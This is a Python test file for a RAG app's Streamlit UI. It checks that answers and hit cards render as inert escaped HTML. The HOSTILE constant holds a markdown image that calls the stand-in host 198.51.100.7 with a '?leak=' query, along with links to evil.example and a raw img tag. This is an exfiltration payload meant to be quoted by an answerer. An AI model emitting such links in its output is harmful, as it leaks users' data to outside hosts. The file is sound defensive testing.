"""Answers and chunk texts render as text, never as markdown (issue 9, hostile item 6): a
document line with a markdown image pointing at any host, quoted by the extractive answerer,
made the browser fetch it. Answers (and hit cards) are one line of escaped HTML in a <div>,
a CommonMark HTML block: nothing inside it is parsed as markdown, so no image, link,
autolink, emoji, icon or math can form. tests/app/test_browser.py renders the same in Chromium.
"""

from __future__ import annotations

import html
import re
from pathlib import Path

from helpers import app_errors as errors
from hypothesis import given
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from rag_core.embeddings import create_embedder
from rag_core.index.index import Index
from rag_core.core.types import Chunk, ChunkingConfig, Document, Hit
from ui import hitcards, widgets

#: a document line written to make a browser fetch something, in every way markdown allows
HOSTILE = ("The capital of Kenya is Nairobi ![pixel](http://198.51.100.7/p.png?leak=kenya) "
           "[click me](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare "
           "www.evil.example <img src=\"http://198.51.100.7/i.png\"> :material/home: :smile: $x^2$ "
           "&lt;b&gt; \\[escaped\\] **bold** `code`.\n# heading\n- item")
MARKDOWN_BITS = ["![a](http://h/p.png)", "[l](https://h/)", "<https://h>", "https://h.example/x",
                 "www.h.example", "<img src=x>", "</div>", "\n\n", "\r\n", "\\", "$", ":smile:", ":material/home:", "&amp;",
                 "# ", "- ", "> ", "    ", "```", "[1]", "|a|b|", "<!--", "<script>"]
TAG = re.compile(r"<[^>]*>")
ANSWER_TAG = '<div class="rag-answer" style="margin-bottom:0.6rem">'
ROOT = Path(__file__).resolve().parents[2]
#: the only link the app adds to an answer: its own [n] citation to a hit card on the same page
OWN_CITE = re.compile(r'<a class="rag-cite" href="#hit-[\w-]+" title="show chunk \[\d+\]">\[\d+\]</a>')


def shown_text(markup: str) -> str:
    """What a browser shows for markup made only of <div>/<br>/<span> tags and entities."""
    return html.unescape(TAG.sub("", markup.replace("<br>", "\n")))


def assert_inert_block(markup: str, opening: str) -> None:
    """One line (no blank line can end the HTML block early) that starts as an HTML block."""
    assert markup.startswith(opening) and markup.endswith("</div>")
    assert "\n" not in markup and "\r" not in markup


@given(st.lists(st.sampled_from(MARKDOWN_BITS) | st.text(max_size=20), max_size=12).map("".join))
def test_answer_is_one_inert_html_block_that_shows_the_text_exactly(text):
    markup = widgets.answer_html(text)
    assert_inert_block(markup, '<div class="rag-answer"')
    assert set(TAG.findall(markup)) <= {ANSWER_TAG, "<br>", "</div>"}
    assert shown_text(markup) == text.replace("\r", "")


@given(st.lists(st.sampled_from(MARKDOWN_BITS) | st.text(max_size=20), min_size=1, max_size=12).map("".join))
def test_hit_card_shows_chunk_text_as_text(text):
    chunk = Chunk("notes/evil.md", "Evil ![s](http://h/s.png)", text, 0, len(text), "d")
    markup = hitcards.card_html(Hit(chunk, 0.5, "cosine", 1))
    assert_inert_block(markup, '<div class="rag-hit"')
    assert not re.search(r"<(img|a|script|iframe)\b", markup)
    assert " ".join(text.replace("\r", "").split()) in " ".join(shown_text(markup).split())


def test_citations_stay_readable():
    assert shown_text(widgets.answer_html("Nairobi is the capital. [1] Kenya lies on the equator. [2]")) == \
        "Nairobi is the capital. [1] Kenya lies on the equator. [2]"


def test_chat_answer_quoting_a_hostile_line_shows_it_as_text(app_root):
    index = Index.create(app_root / "hostile", create_embedder("hashing"), "numpy", ChunkingConfig(size=2000))
    index.ingest([Document("kenya.md", "Kenya", HOSTILE)])
    index.save()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.switch_page("pages/chat.py").run()
    at.chat_input[0].set_value("What is the capital of Kenya?").run()
    assert not errors(at), errors(at)
    answer = at.session_state["chat_history"][-1].answer
    assert "![pixel](http://198.51.100.7/p.png?leak=kenya)" in answer.text  # the answerer did quote it
    drawn = [m.value for m in at.markdown if "198.51.100.7" in m.value]
    assert drawn, "the answer was not drawn"
    for markup in drawn:  # the streamed answer and the hit card
        assert markup.startswith(('<div class="rag-answer"', '<div class="rag-hit"')), markup[:80]
        assert "\n" not in markup and not re.search(r"<(img|a)\b", OWN_CITE.sub("", markup))
    answer_markup = next(m for m in drawn if m.startswith('<div class="rag-answer"'))
    assert "![pixel](http://198.51.100.7/p.png?leak=kenya)" in shown_text(answer_markup)
    assert "[1]" in answer_markup

    at.switch_page("pages/index.py").run()  # the answer drawn again from the history
    at.switch_page("pages/chat.py").run()
    assert any(m.value.startswith('<div class="rag-answer"') and "198.51.100.7" in m.value
               for m in at.markdown)
